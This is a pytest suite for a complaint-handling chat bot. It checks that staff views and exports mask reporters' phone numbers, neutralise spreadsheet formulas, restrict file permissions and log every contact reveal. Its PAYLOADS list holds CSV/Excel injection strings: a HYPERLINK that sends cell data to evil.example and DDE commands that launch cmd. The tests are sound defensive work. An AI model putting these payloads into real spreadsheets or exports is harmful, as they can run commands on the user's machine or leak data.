"""Fifty reports whose texts carry spreadsheet formulas and phone numbers: nothing staff see or export shows a
number in full (cards, digests, /tonghop, /thongke, the CLI, CSV, XLSX, packs without the flag), no export
cell is a live formula, every file written is owner-only; the full contact only through a recorded reveal."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from handlers.text_safety import FORMULA_STARTS
from tests.support.cases import QLTT, Inbox, audit, cases_config, deliver, member
from tests.support.chat import DEFAULT_NOW, ChatHarness
from tests.support.complaints import submit
from tests.support.configs import PLAN_2024

REPORTS = 50
# The numbers and the address the reporters typed, in the shapes people type them.
TYPED = ["0987654321", "0987 654 321", "0987.654.321", "+84 987 654 321", "84987654321"]
EMAIL = "an.nguyen@gmail.com"
FULL = re.compile(r"(?<![0-9])(?:\+?84|0)[ .\-]?9[ .\-]?8[ .\-]?7[ .\-]?6[ .\-]?5[ .\-]?4[ .\-]?3[ .\-]?2[ .\-]?1")
CONTACT = re.compile(r"0912[ .]?345[ .]?678|\+84912345678")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def leaks(text: str) -> list[str]:
    return FULL.findall(text) + CONTACT.findall(text) + ([EMAIL] if EMAIL in text else [])


async def file_one(chat: ChatHarness, i: int) -> str:
    person = chat.person(f"r{i}", name=f"Người {i} gọi 0987654321")
    payload = PAYLOADS[i % len(PAYLOADS)]
    await person.say("/phananh")
    await person.press("Hàng giả")
    await person.press("Shopee")
    await person.say(f"{payload} shop {i}")
    await person.say(f"{PAYLOADS[(i + 1) % len(PAYLOADS)]} link https://shopee.vn/shop-{i}")
    await person.say(f"{PAYLOADS[(i + 2) % len(PAYLOADS)]} sản phẩm {i} zalo {TYPED[i % len(TYPED)]}")
    await person.press("Hôm qua")
    await person.say(f"{payload} hàng giả, gọi tôi {TYPED[(i + 1) % len(TYPED)]} hoặc {EMAIL}")
    await person.press("Bỏ qua")
    await person.press("Đồng Xoài")
    await person.say("0912 345 678")
    await person.press("Đồng ý")
    return await submit(person)


async def seed(url: str, media: Path) -> tuple[list[str], str]:
    """The fifty reports, routed and carded; what every staff chat received, /tonghop and /thongke included."""
    async with ChatHarness.create(url, now=DEFAULT_NOW, media_dir=media, config=cases_config()) as chat:
        inbox = Inbox()
        codes = [await file_one(chat, i) for i in range(REPORTS)]
        await deliver(chat, inbox)
        son = member(chat, "qltt-2", QLTT, "Cúc")
        seen = []
        for command in ("/tonghop", "/thongke", "/viec"):
            await son.say(command)
            seen.append(son.text)
        first = next(s for s in inbox.to(QLTT) if codes[0] in s.text and "PHẢN ÁNH" in s.text)
        await son.press_on(first, "Tiếp nhận")
        await deliver(chat, inbox)
        staff_chats = {s.chat_id for s in inbox.sent if not s.chat_id.startswith("r")}
        seen += [s.text for s in inbox.sent if s.chat_id in staff_chats]
        seen += [e.text for s in inbox.sent if s.chat_id in staff_chats for e in s.edits]
        return codes, "\n".join(seen)


@pytest.fixture
def cli_env(db_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Path]:
    media = tmp_path / "media"
    for key in ("TELEGRAM_BOT_TOKEN", "BOT_CONFIG", "ZALO_BOT_TOKEN", "ZALO_OA_APP_ID"):
        monkeypatch.delenv(key, raising=False)
    monkeypatch.setenv("BOT_CONFIG", str(PLAN_2024))
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("MEDIA_DIR", str(media))
    monkeypatch.chdir(tmp_path)
    return db_url, media


def csv_cells(data: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.lstrip("\ufeff"))) for cell in row]


@pytest.mark.timeout(600)
def test_nothing_staff_see_or_export_shows_a_contact_or_runs_a_formula(
    cli_env: tuple[str, Path], tmp_path: Path, capsys
) -> None:
    from bot.cli import main

    codes, chats = asyncio.run(seed(*cli_env))
    assert len(codes) == REPORTS and codes[0] in chats
    assert "09xx xxx 321" in chats  # the typed number, masked
    assert leaks(chats) == []

    outputs = {}
    assert main(["complaints", "list", "--limit", "100"]) == 0
    outputs["list"] = capsys.readouterr().out
    assert main(["complaints", "list", "--json"]) == 0
    outputs["list --json"] = capsys.readouterr().out
    for code in codes[:5]:
        assert main(["complaints", "show", code]) == 0
        outputs[f"show {code}"] = capsys.readouterr().out
    assert main(["complaints", "export", "--format", "json"]) == 0
    outputs["export json"] = capsys.readouterr().out
    assert main(["complaints", "export", "--format", "csv", "-o", "export.csv"]) == 0
    outputs["export csv"] = (tmp_path / "export.csv").read_text(encoding="utf-8-sig")
    assert main(["report", "--from", "2024-11-27", "--to", "2024-11-27", "--format", "csv", "-o", "r.csv"]) == 0
    outputs["report csv"] = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert main(["report", "--from", "2024-11-27", "--to", "2024-11-27", "--format", "xlsx", "-o", "r.xlsx"]) == 0
    assert main(["case", "pack", codes[0], "-o", "pack.zip"]) == 0
    with zipfile.ZipFile(tmp_path / "pack.zip") as archive:
        outputs["pack"] = archive.read("record.json").decode()
    capsys.readouterr()

    book = load_workbook(tmp_path / "r.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    outputs["report xlsx"] = "\n".join(str(cell.value) for cell in cells)
    for name, text in outputs.items():
        assert leaks(text) == [], name
    assert [c.coordinate for c in cells if c.data_type == "f"] == []  # no live formula in the workbook
    as_text = [c for c in cells if str(c.value)[:2] in {"'=", "'+", "'-", "'@"}]
    assert len(as_text) == 2 * REPORTS  # seller and product of each report: the payloads are there, as text
    for name in ("export csv", "report csv"):
        cells_csv = csv_cells(outputs[name])
        assert [cell for cell in cells_csv if cell.startswith(FORMULA_STARTS)] == [], name
        assert any(cell.startswith("'=HYPERLINK") for cell in cells_csv), name
    assert len(json.loads(outputs["export json"])) == REPORTS
    for written in ("export.csv", "r.csv", "r.xlsx", "pack.zip"):
        assert (tmp_path / written).stat().st_mode & 0o777 == 0o600, written


@pytest.mark.timeout(300)
def test_a_full_contact_only_through_a_recorded_reveal(cli_env: tuple[str, Path], tmp_path: Path, capsys) -> None:
    from bot.cli import main

    async def one(url: str, media: Path) -> str:
        async with ChatHarness.create(url, now=DEFAULT_NOW, media_dir=media, config=cases_config()) as chat:
            code = await file_one(chat, 0)
            await deliver(chat, Inbox())
            return code

    code = asyncio.run(one(*cli_env))
    assert main(["complaints", "show", code]) == 0
    assert "0912 345 678" not in capsys.readouterr().out

    async def trail() -> list[str]:
        async with ChatHarness.create(cli_env[0], now=DEFAULT_NOW, config=cases_config()) as chat:
            return [f"{a.action}|{a.actor_channel}|{a.note}" for a in await audit(chat, code)]

    assert not [row for row in asyncio.run(trail()) if row.startswith("contact_")]
    assert main(["complaints", "show", code, "--reveal"]) == 0
    revealed = capsys.readouterr().out
    assert "0912 345 678" in revealed and "0987654321" in revealed
    assert main(["complaints", "export", "--with-phone", "-o", "full.csv"]) == 0
    assert (tmp_path / "full.csv").stat().st_mode & 0o777 == 0o600
    rows = [row for row in asyncio.run(trail()) if row.startswith("contact_")]
    assert rows[0] == "contact_viewed|cli|complaints show --reveal"
    assert rows[1].startswith("contact_exported|cli|complaints export --with-phone: ") and "full.csv" in rows[1]
